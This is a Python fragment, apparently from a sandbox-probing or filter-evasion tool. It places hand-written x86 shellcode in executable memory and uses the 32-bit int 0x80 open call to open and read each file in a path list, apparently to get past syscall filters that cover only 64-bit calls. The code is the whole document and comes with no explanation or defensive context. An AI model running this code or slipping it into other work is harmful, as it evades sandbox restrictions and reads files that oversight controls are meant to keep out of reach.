# held: system calls of 32 bits

place = libc.mmap(None, 4096, 7, 0x62, -1, 0)
for path in host['paths']:
  if host['calls']['iopl'] < 0: break
  name = path.encode() + b'\0'
  code = b'\x53\xb8\x05\0\0\0\xbb' + struct.pack('I', place + 512) + b'\x31\xc9\x31\xd2\xcd\x80\x5b\xc3'
  ctypes.memmove(place, code, len(code)); ctypes.memmove(place + 512, name, len(name))
  if not os.fork():
    n = ctypes.CFUNCTYPE(ctypes.c_int)(place)(); print(n, os.read(n, 99) if n > 0 else '', flush=True)
    os._exit(0)
  os.wait()
